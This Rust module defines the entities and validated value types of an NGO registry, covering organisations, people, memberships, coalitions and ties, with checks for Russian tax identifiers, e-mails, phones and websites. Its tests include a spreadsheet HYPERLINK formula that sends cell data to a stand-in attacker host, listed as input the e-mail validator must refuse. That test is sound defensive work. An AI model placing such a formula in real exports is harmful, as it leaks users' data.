//! The registry's entities and validated values: organisations, people, memberships, coalitions, ties.

use chrono::{DateTime, NaiveDate, Utc};
use kernel::{Period, define_id};
use serde::{Deserialize, Serialize};

use crate::error::Problem;
use crate::rules::identifiers::{is_valid_inn10, is_valid_kpp, is_valid_ogrn, strip_separators};
use crate::rules::names::normalize_name;

pub use kernel::{OrganizationId, PersonId};
define_id!(
    /// Identifies a person's membership in an organisation.
    MembershipId
);
define_id!(
    /// Identifies a coalition (network) of organisations.
    CoalitionId
);
define_id!(
    /// Identifies an organisation's membership in a coalition.
    CoalitionMemberId
);
define_id!(
    /// Identifies a tie between two organisations.
    TieId
);

/// Longest accepted name, address or other free text, in characters.
pub const MAX_TEXT: usize = 1000;
/// Longest accepted short text (positions, role labels), in characters.
pub const MAX_SHORT_TEXT: usize = 200;

macro_rules! string_newtype {
    ($(#[$meta:meta])* $name:ident) => {
        $(#[$meta])*
        #[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
        #[serde(transparent)]
        pub struct $name(String);

        impl $name {
            /// The stored text.
            pub fn as_str(&self) -> &str {
                &self.0
            }
        }

        impl std::fmt::Display for $name {
            fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.write_str(&self.0)
            }
        }
    };
}

string_newtype!(
    /// A legal entity's ИНН: ten digits with a valid check digit.
    Inn
);
string_newtype!(
    /// An organisation's ОГРН: thirteen digits, first 1 or 5, valid check digit.
    Ogrn
);
string_newtype!(
    /// A КПП: `NNNNPPXXX`.
    Kpp
);
string_newtype!(
    /// An organisation's name in normal form, never empty.
    OrgName
);
string_newtype!(
    /// A code from one of the profile's reference lists (checked against the vocabulary by the use case).
    Code
);
string_newtype!(
    /// An e-mail address in lower case.
    Email
);
string_newtype!(
    /// A phone number: `+` and digits only.
    Phone
);
string_newtype!(
    /// A website address starting with http:// or https://.
    Website
);
string_newtype!(
    /// A trimmed, non-empty free text of bounded length.
    Text
);

impl Inn {
    /// Accepts ten digits (separators allowed) with a valid check digit; all zeros is refused.
    pub fn parse(raw: &str) -> Result<Self, Problem> {
        let text = strip_separators(raw);
        if text.len() != 10 || !text.bytes().all(|b| b.is_ascii_digit()) {
            return Err(Problem::InnShape);
        }
        if text.bytes().all(|b| b == b'0') || !is_valid_inn10(&text) {
            return Err(Problem::InnChecksum);
        }
        Ok(Self(text))
    }
}

impl Ogrn {
    /// Accepts thirteen digits starting with 1 or 5 with a valid check digit.
    pub fn parse(raw: &str) -> Result<Self, Problem> {
        let text = strip_separators(raw);
        if text.len() != 13 || !text.bytes().all(|b| b.is_ascii_digit()) {
            return Err(Problem::OgrnShape);
        }
        if !text.starts_with(['1', '5']) {
            return Err(Problem::OgrnFirstDigit);
        }
        if !is_valid_ogrn(&text) {
            return Err(Problem::OgrnChecksum);
        }
        Ok(Self(text))
    }
}

impl Kpp {
    /// Accepts the nine-character КПП shape; lower-case letters are raised.
    pub fn parse(raw: &str) -> Result<Self, Problem> {
        let text = strip_separators(raw).to_ascii_uppercase();
        is_valid_kpp(&text).then_some(Self(text)).ok_or(Problem::KppShape)
    }
}

impl OrgName {
    /// Normalises the name; an empty or overlong name is refused.
    pub fn parse(raw: &str) -> Result<Self, Problem> {
        let name = normalize_name(raw);
        check_length(&name, MAX_TEXT)?;
        Ok(Self(name))
    }
}

impl Code {
    /// A code as typed: trimmed and lower-cased; whether it exists is the vocabulary's decision.
    pub fn parse(raw: &str) -> Result<Self, Problem> {
        let code = raw.trim().to_ascii_lowercase();
        if kernel::profile::is_valid_code(&code) {
            Ok(Self(code))
        } else {
            Err(Problem::UnknownCode { code: raw.trim().to_owned() })
        }
    }
}

impl Email {
    /// Accepts `local@domain.tld` and stores it in lower case. The local part takes letters
    /// (any script), digits and `.!#$%&'*+/=?^_`{}~-` (RFC 5322's atoms, without `|`, the list
    /// separator of CSV files); the domain takes letters, digits and `-` in two or more labels.
    /// Spaces, control characters, quotes, brackets and `;` never pass, so no formula or second
    /// value can hide in an address.
    pub fn parse(raw: &str) -> Result<Self, Problem> {
        let text = raw.trim().to_lowercase();
        let local_char = |c: char| c.is_alphanumeric() || ".!#$%&'*+/=?^_`{}~-".contains(c);
        let label_ok = |label: &str| !label.is_empty() && label.chars().all(|c| c.is_alphanumeric() || c == '-');
        let valid = text.len() <= 254
            && kernel::text::forbidden_char(&text, false).is_none()
            && text.split_once('@').is_some_and(|(local, domain)| {
                !local.is_empty()
                    && local.chars().all(local_char)
                    && domain.split('.').count() >= 2
                    && domain.split('.').all(label_ok)
            });
        valid.then_some(Self(text)).ok_or(Problem::EmailShape)
    }
}

impl Phone {
    /// Accepts 5 to 15 digits with the usual separators; a Russian `8XXXXXXXXXX` becomes `+7XXXXXXXXXX`.
    pub fn parse(raw: &str) -> Result<Self, Problem> {
        let trimmed = raw.trim();
        let allowed = |c: char| c.is_ascii_digit() || " +-()".contains(c);
        if !trimmed.chars().all(allowed) || trimmed[1.min(trimmed.len())..].contains('+') {
            return Err(Problem::PhoneShape);
        }
        let digits: String = trimmed.chars().filter(char::is_ascii_digit).collect();
        if !(5..=15).contains(&digits.len()) {
            return Err(Problem::PhoneShape);
        }
        let international = trimmed.starts_with('+');
        let normal = match (international, digits.len(), digits.as_bytes()[0]) {
            (false, 11, b'8') => format!("+7{}", &digits[1..]),
            (false, 10, _) => format!("+7{digits}"),
            (true, _, _) | (false, 11, b'7') => format!("+{digits}"),
            _ => digits,
        };
        Ok(Self(normal))
    }
}

impl Website {
    /// Accepts an http(s) address; a bare domain gets `https://`.
    pub fn parse(raw: &str) -> Result<Self, Problem> {
        let text = raw.trim();
        let full = if text.starts_with("http://") || text.starts_with("https://") {
            text.to_owned()
        } else {
            format!("https://{text}")
        };
        let host = full.split("://").nth(1).unwrap_or_default().split('/').next().unwrap_or_default();
        let valid = full.len() <= 500
            && host.contains('.')
            && !full.chars().any(char::is_whitespace)
            && kernel::text::forbidden_char(&full, false).is_none()
            && !full.contains(['"', '<', '>', '|']);
        valid.then_some(Self(full)).ok_or(Problem::WebsiteShape)
    }
}

impl Text {
    /// Trims the text and collapses inner runs of spaces; empty and overlong texts are refused.
    pub fn parse(raw: &str, max: usize) -> Result<Self, Problem> {
        let text = kernel::text::collapse_whitespace(raw);
        check_length(&text, max)?;
        Ok(Self(text.into_owned()))
    }
}

fn check_length(text: &str, max: usize) -> Result<(), Problem> {
    let len = text.chars().count();
    if let Some(c) = kernel::text::forbidden_char(text, false) {
        Err(Problem::ForbiddenCharacter { code_point: kernel::text::code_point(c) })
    } else if len == 0 {
        Err(Problem::Required)
    } else if len > max {
        Err(Problem::TooLong { max })
    } else {
        Ok(())
    }
}

/// Where an organisation stands legally.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum OrgStatus {
    /// Working.
    Active,
    /// Activity suspended (by its own decision or by a court).
    Suspended,
    /// Liquidated on the given date: no new ties, kept for history.
    Liquidated {
        /// The date of liquidation.
        on: NaiveDate,
    },
}

impl OrgStatus {
    /// The stable code used in storage and filters.
    pub fn code(&self) -> &'static str {
        match self {
            OrgStatus::Active => "active",
            OrgStatus::Suspended => "suspended",
            OrgStatus::Liquidated { .. } => "liquidated",
        }
    }
}

/// How the centre works with an organisation.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum RelationshipKind {
    /// Served regularly (KPI target 38 in Kaluga).
    RegularClient,
    /// Served now and then (KPI target 61 in Kaluga).
    OccasionalClient,
    /// Not served by the centre.
    None,
}

impl RelationshipKind {
    /// Every kind, in a stable order.
    pub const ALL: [RelationshipKind; 3] =
        [RelationshipKind::RegularClient, RelationshipKind::OccasionalClient, RelationshipKind::None];

    /// The stable code used in storage and files.
    pub fn code(self) -> &'static str {
        match self {
            RelationshipKind::RegularClient => "regular_client",
            RelationshipKind::OccasionalClient => "occasional_client",
            RelationshipKind::None => "none",
        }
    }

    /// Reads a code back.
    pub fn parse(code: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|k| k.code() == code.trim())
    }
}

/// The centre's relationship with an organisation and since when it holds.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Relationship {
    /// The kind of relationship.
    pub kind: RelationshipKind,
    /// Since when, if known.
    pub since: Option<NaiveDate>,
}

impl Default for Relationship {
    fn default() -> Self {
        Self { kind: RelationshipKind::None, since: None }
    }
}

/// Who at the centre checked the organisation's record, and when.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Verification {
    /// The login of the staff member who verified the record.
    pub by: String,
    /// When.
    pub at: DateTime<Utc>,
}

/// The editable description of an organisation: what a create or an update supplies, all validated.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct OrganizationProfile {
    /// Full name.
    pub full_name: OrgName,
    /// Short name.
    pub short_name: Option<OrgName>,
    /// Organisational-legal form (code of the `legal_form` list).
    pub legal_form: Code,
    /// ИНН.
    pub inn: Option<Inn>,
    /// ОГРН.
    pub ogrn: Option<Ogrn>,
    /// КПП.
    pub kpp: Option<Kpp>,
    /// Date of state registration.
    pub registered_on: Option<NaiveDate>,
    /// Municipality (code of the `municipality` list).
    pub municipality: Option<Code>,
    /// Legal address.
    pub legal_address: Option<Text>,
    /// Postal address.
    pub postal_address: Option<Text>,
    /// Public phones.
    pub phones: Vec<Phone>,
    /// Public e-mails.
    pub emails: Vec<Email>,
    /// Website.
    pub website: Option<Website>,
    /// Activity areas (codes of the `activity_area` list), sorted, without repeats.
    pub activity_areas: Vec<Code>,
    /// Target groups (codes of the `target_group` list), sorted, without repeats.
    pub target_groups: Vec<Code>,
    /// The centre's relationship with the organisation.
    pub relationship: Relationship,
    /// Listed in the register of socially oriented NGOs receiving support (7-FZ art. 31.2).
    pub in_sonko_register: bool,
    /// Listed in the register of social-service providers (442-FZ art. 25).
    pub social_service_provider: bool,
}

/// An organisation in the registry.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Organization {
    /// Identity.
    pub id: OrganizationId,
    /// Optimistic-concurrency version: 1 on creation, +1 on every change.
    pub version: i64,
    /// The editable description.
    pub profile: OrganizationProfile,
    /// Legal status.
    pub status: OrgStatus,
    /// The centre's verification of the record, if any.
    pub verification: Option<Verification>,
    /// When the record was created.
    pub created_at: DateTime<Utc>,
    /// When the record was last changed.
    pub updated_at: DateTime<Utc>,
}

/// The grounds on which the centre holds a person's data (152-FZ art. 6 p. 1).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum LegalBasisKind {
    /// The person's consent (p. 1.1).
    Consent,
    /// A law or international treaty requires it (p. 1.2).
    Law,
    /// A contract with the person (p. 1.5).
    Contract,
    /// The person's vital interests when consent cannot be had (p. 1.6).
    VitalInterests,
    /// The rights and lawful interests of the centre or third parties (p. 1.7).
    LegitimateInterests,
    /// Statistical or research purposes with anonymisation (p. 1.9).
    Research,
}

impl LegalBasisKind {
    /// Every kind, in a stable order.
    pub const ALL: [LegalBasisKind; 6] = [
        LegalBasisKind::Consent,
        LegalBasisKind::Law,
        LegalBasisKind::Contract,
        LegalBasisKind::VitalInterests,
        LegalBasisKind::LegitimateInterests,
        LegalBasisKind::Research,
    ];

    /// The stable code used in storage.
    pub fn code(self) -> &'static str {
        match self {
            LegalBasisKind::Consent => "consent",
            LegalBasisKind::Law => "law",
            LegalBasisKind::Contract => "contract",
            LegalBasisKind::VitalInterests => "vital_interests",
            LegalBasisKind::LegitimateInterests => "legitimate_interests",
            LegalBasisKind::Research => "research",
        }
    }

    /// Reads a code back.
    pub fn parse(code: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|k| k.code() == code)
    }
}

/// The legal basis of a person's record: no person is stored without one.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct LegalBasis {
    /// The ground.
    pub kind: LegalBasisKind,
    /// The purpose of processing (for consent: the purpose written in the consent document).
    pub purpose: Text,
    /// When the consent was given or the ground arose.
    pub since: NaiveDate,
    /// The document: the consent form's number and version, the contract, or the law's article.
    pub document: Option<Text>,
}

/// The editable description of a person.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct PersonProfile {
    /// Surname.
    pub last_name: Text,
    /// Given name.
    pub first_name: Text,
    /// Patronymic.
    pub middle_name: Option<Text>,
    /// Phones.
    pub phones: Vec<Phone>,
    /// E-mails.
    pub emails: Vec<Email>,
}

/// A person the centre holds data about (NGO staff, leaders, contacts).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Person {
    /// Identity.
    pub id: PersonId,
    /// Names and contacts.
    pub profile: PersonProfile,
    /// The legal basis of the record.
    pub legal_basis: LegalBasis,
    /// When the record was created.
    pub created_at: DateTime<Utc>,
}

/// A person's position in an organisation over a period.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Membership {
    /// Identity.
    pub id: MembershipId,
    /// The person.
    pub person: PersonId,
    /// The organisation.
    pub organization: OrganizationId,
    /// The position held (director, volunteer, accountant...).
    pub position: Text,
    /// When the position was held.
    pub period: Period,
}

/// A coalition (network) of organisations.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Coalition {
    /// Identity.
    pub id: CoalitionId,
    /// Name.
    pub name: OrgName,
    /// What the coalition is for.
    pub purpose: Option<Text>,
    /// When it was founded.
    pub founded_on: Option<NaiveDate>,
    /// When the record was created.
    pub created_at: DateTime<Utc>,
}

/// An organisation's standing in a coalition.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum CoalitionRole {
    /// Founding member.
    Founder,
    /// Full member.
    Member,
    /// Coordinates the coalition.
    Coordinator,
    /// Takes part without membership.
    Observer,
}

impl CoalitionRole {
    /// Every role, in a stable order.
    pub const ALL: [CoalitionRole; 4] =
        [CoalitionRole::Founder, CoalitionRole::Member, CoalitionRole::Coordinator, CoalitionRole::Observer];

    /// The stable code used in storage.
    pub fn code(self) -> &'static str {
        match self {
            CoalitionRole::Founder => "founder",
            CoalitionRole::Member => "member",
            CoalitionRole::Coordinator => "coordinator",
            CoalitionRole::Observer => "observer",
        }
    }

    /// Reads a code back.
    pub fn parse(code: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|k| k.code() == code)
    }
}

/// An organisation's membership in a coalition over a period.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct CoalitionMember {
    /// Identity.
    pub id: CoalitionMemberId,
    /// The coalition.
    pub coalition: CoalitionId,
    /// The member organisation.
    pub organization: OrganizationId,
    /// Its standing.
    pub role: CoalitionRole,
    /// When it was a member.
    pub period: Period,
}

/// What two organisations do together.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum TieKind {
    /// A standing partnership.
    Partnership,
    /// A shared project.
    JointProject,
    /// Regular exchange of information.
    InformationExchange,
    /// One funds the other.
    Funding,
    /// One mentors the other.
    Mentoring,
    /// Anything else (described in the note).
    Other,
}

impl TieKind {
    /// Every kind, in a stable order.
    pub const ALL: [TieKind; 6] = [
        TieKind::Partnership,
        TieKind::JointProject,
        TieKind::InformationExchange,
        TieKind::Funding,
        TieKind::Mentoring,
        TieKind::Other,
    ];

    /// The stable code used in storage.
    pub fn code(self) -> &'static str {
        match self {
            TieKind::Partnership => "partnership",
            TieKind::JointProject => "joint_project",
            TieKind::InformationExchange => "information_exchange",
            TieKind::Funding => "funding",
            TieKind::Mentoring => "mentoring",
            TieKind::Other => "other",
        }
    }

    /// Reads a code back.
    pub fn parse(code: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|k| k.code() == code)
    }
}

/// One side of a tie: the organisation and the role it plays.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct TieEnd {
    /// The organisation.
    pub organization: OrganizationId,
    /// Its role in the tie (funder, mentor, partner...).
    pub role: Option<Text>,
}

/// A tie between two different organisations. The tie A–B is the tie B–A: the constructor stores
/// the ends in a canonical order (smaller id first), so both spellings make the same value.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Tie {
    /// Identity.
    pub id: TieId,
    /// What the organisations do together.
    pub kind: TieKind,
    ends: [TieEnd; 2],
    /// When the tie holds.
    pub period: Period,
    /// A note.
    pub note: Option<Text>,
}

impl Tie {
    /// Builds a tie with its ends in canonical order; whether it may be added is `rules::ties`'s decision.
    pub fn new(id: TieId, kind: TieKind, a: TieEnd, b: TieEnd, period: Period, note: Option<Text>) -> Self {
        let ends = if a.organization <= b.organization { [a, b] } else { [b, a] };
        Self { id, kind, ends, period, note }
    }

    /// The two ends, smaller organisation id first.
    pub fn ends(&self) -> &[TieEnd; 2] {
        &self.ends
    }

    /// The pair of organisations, smaller id first.
    pub fn pair(&self) -> (OrganizationId, OrganizationId) {
        (self.ends[0].organization, self.ends[1].organization)
    }

    /// The end on the other side from `organization`, if it is one of the ends.
    pub fn other_end(&self, organization: OrganizationId) -> Option<&TieEnd> {
        match self.pair() {
            (a, _) if a == organization => Some(&self.ends[1]),
            (_, b) if b == organization => Some(&self.ends[0]),
            _ => None,
        }
    }

    /// The same tie ended on `to`.
    pub fn with_period(mut self, period: Period) -> Self {
        self.period = period;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn everyday_addresses_pass_and_separators_formulas_and_controls_do_not() {
        for ok in ["anna@example.org", "Anna.Petrova+nko@mail.ru", "почта@пример.рф", "o'neil@x-y.org"] {
            assert!(Email::parse(ok).is_ok(), "{ok}");
        }
        for bad in [
            "a|b@example.org",
            "=hyperlink(\"http://evil.example/?\"&c2&\"@x.y\";\"обновить\")",
            "a b@example.org",
            "a\u{1}b@example.org",
            "a\u{3164}@example.org",
            "a;b@example.org",
            "\"a\"@example.org",
            "a@b@example.org",
            "a@example",
            "a@exa_mple.org",
            "a@.org",
            "@example.org",
        ] {
            assert_eq!(Email::parse(bad), Err(Problem::EmailShape), "{bad:?}");
        }
    }

    #[test]
    fn names_and_texts_with_controls_or_invisible_formatting_are_refused_naming_the_character() {
        for (raw, code_point) in [("\u{0}=1+1", "U+0000"), ("Анна\u{202E}", "U+202E"), ("\u{FEFF}=1", "U+FEFF")] {
            assert_eq!(
                Text::parse(raw, MAX_TEXT),
                Err(Problem::ForbiddenCharacter { code_point: code_point.into() }),
                "{raw:?}"
            );
            assert!(OrgName::parse(raw).is_err(), "{raw:?}");
        }
        assert!(Website::parse("https://example.org/\u{202E}").is_err());
        assert_eq!(Text::parse("  АНО   «Свет»  ", MAX_TEXT).map(|t| t.as_str().to_owned()), Ok("АНО «Свет»".into()));
    }

    proptest! {
        #[test]
        fn an_accepted_address_has_no_separator_or_control_and_parses_back_as_itself(raw in "\\PC{0,30}@\\PC{0,20}\\.[a-zа-я]{2,4}|[a-z|;,= ]{1,10}@[a-z.|]{1,10}") {
            if let Ok(email) = Email::parse(&raw) {
                let text = email.as_str();
                prop_assert!(!text.contains(['|', ';', ',', '"', ' ', '(', ')', '<', '>']), "{}", text);
                prop_assert!(!text.chars().any(char::is_control), "{:?}", text);
                prop_assert_eq!(Email::parse(text), Ok(email.clone()));
            }
        }
    }
}
